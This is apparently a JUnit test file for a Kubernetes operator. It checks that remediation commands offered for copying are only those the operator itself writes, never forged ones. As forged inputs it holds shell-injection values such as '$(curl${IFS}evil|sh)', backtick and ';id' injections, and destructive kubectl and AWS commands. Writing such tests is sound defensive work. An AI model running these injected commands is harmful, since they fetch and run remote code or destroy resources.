package dev.trustedaccess.page;

import java.util.List;

import dev.trustedaccess.page.Standing.Step;
import io.fabric8.kubernetes.api.model.ObjectMeta;
import io.fabric8.kubernetes.api.model.ObjectMetaBuilder;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** What is offered to copy for a message that another writer of status than the operator may have written. */
class StepsTest {
  private static final String OBJECT = "tsa fms.amazonaws.com";

  private static final String DESCRIBE = "kubectl describe tsa fms.amazonaws.com";
  private static final String REFUSED = "The API server refuses to remove the operator's finalizer: no. Correct the cause. ";

  private static List<String> commands(String message) {
    return commands("CleanupPending", message, "trustedaccess.dev/access");
  }

  /** What is offered for an object that is being deleted and has these finalizers. */
  private static List<String> commands(String reason, String message, String... finalizers) {
    ObjectMeta meta = new ObjectMetaBuilder().withName("fms.amazonaws.com")
        .withDeletionTimestamp("2026-03-01T12:00:00Z")
        .withFinalizers(finalizers)
        .build();
    return Steps.of(OBJECT, meta, reason, message).stream().map(Step::command).toList();
  }

  private static String removal(String finalizers) {
    return "kubectl patch tsa fms.amazonaws.com --type merge -p '{\"metadata\":{\"finalizers\":" + finalizers + "}}'";
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "To fix: kubectl describe tsa $(curl${IFS}evil|sh)",
      "To fix: kubectl describe tsa `id`",
      "To fix: kubectl delete orgconn default",
      "To fix: kubectl delete tsa sso.amazonaws.com",
      "To fix: kubectl edit clusterrole x",
      "To fix: kubectl patch tsa sso.amazonaws.com --type merge -p '{\"spec\":{\"deletionPolicy\":\"Retain\"}}'",
      "To fix: kubectl patch tsa fms.amazonaws.com --type merge -p '{\"metadata\":{\"finalizers\":null}}'",
      "To fix: kubectl patch orgconn default --type merge -p '{\"metadata\":{\"finalizers\":null}}'",
      "To fix: trusted-access-operator confirm cleaned-up sso.amazonaws.com",
      "To fix: aws organizations leave-organization",
      "To fix: echo '{\"kind\":\"ClusterRoleBinding\"}' | kubectl apply -f -",
  })
  void noneIsOfferedThatTheOperatorDoesNotWriteAboutThisObject(String forged) {
    assertThat(commands(forged)).containsExactly("kubectl describe tsa fms.amazonaws.com");
  }

  @Test
  void whatFollowsACommandIsNoPartOfIt() {
    assertThat(commands("Run: trusted-access-operator confirm cleaned-up fms.amazonaws.com;id"))
        .startsWith("trusted-access-operator confirm cleaned-up fms.amazonaws.com");
    assertThat(commands("See: kubectl describe orgconn default;id")).startsWith("kubectl describe orgconn default");
  }

  @Test
  void aFinalizerThatTheOperatorMayNotRemoveIsRemovedByHand() {
    assertThat(
        commands("WriteRefused", REFUSED + "To remove it by hand: " + removal("null"), "trustedaccess.dev/access"))
        .containsExactly(removal("null"), DESCRIBE);
    assertThat(commands(
        "WriteRefused", REFUSED + "To remove it by hand: " + removal("[\"a.example/one\",\"orphan\"]"),
        "a.example/one", "trustedaccess.dev/access", "orphan"))
        .containsExactly(removal("[\"a.example/one\",\"orphan\"]"), DESCRIBE);
    assertThat(commands("WriteRefused", REFUSED + "To remove it by hand: kubectl edit tsa fms.amazonaws.com"))
        .containsExactly("kubectl edit tsa fms.amazonaws.com", DESCRIBE);
  }

  @Test
  void aDepartureThatCannotBeKeptIsGivenUpWithRetain() {
    String retain = "kubectl patch tsa fms.amazonaws.com --type merge -p '{\"spec\":{\"deletionPolicy\":\"Retain\"}}'";
    assertThat(
        commands("WriteRefused", REFUSED + "To accept the log line alone: " + retain, "trustedaccess.dev/access"))
        .containsExactly(retain, DESCRIBE);
  }

  /** The words of a webhook, or of whoever else writes status. */
  @ParameterizedTest
  @ValueSource(strings = {
      "null",
      "[]",
      "[\"trustedaccess.dev/access\"]",
      "[\"b.example/two\"]",
      "[\"a.example/one\",\"b.example/two\"]",
      "[\"a.example/one\"]}}' && id; echo '{{",
  })
  void noFinalizerOfOthersIsRemovedOrAdded(String finalizers) {
    assertThat(commands(
        "WriteRefused", REFUSED + "To remove it by hand: " + removal(finalizers), "trustedaccess.dev/access",
        "a.example/one")).containsExactly(DESCRIBE);
  }

  @Test
  void aCommandInTheWordsOfWhoeverRefusesIsNotTheOperators() {
    String said = "The API server refuses to remove the operator's finalizer: run kubectl delete tsa fms.amazonaws.com or "
        + removal("null") + ". Correct the cause. To remove it by hand: kubectl edit tsa fms.amazonaws.com";
    assertThat(commands("WriteRefused", said, "trustedaccess.dev/access"))
        .containsExactly("kubectl edit tsa fms.amazonaws.com", DESCRIBE);
  }

  @Test
  void noFinalizerIsRemovedFromWhatNobodyDeletes() {
    ObjectMeta meta = new ObjectMetaBuilder().withName("fms.amazonaws.com").build();
    assertThat(Steps.of(OBJECT, meta, "WriteRefused", REFUSED + "To remove it by hand: " + removal("null")))
        .extracting(Step::command)
        .containsExactly(DESCRIBE);
  }
}
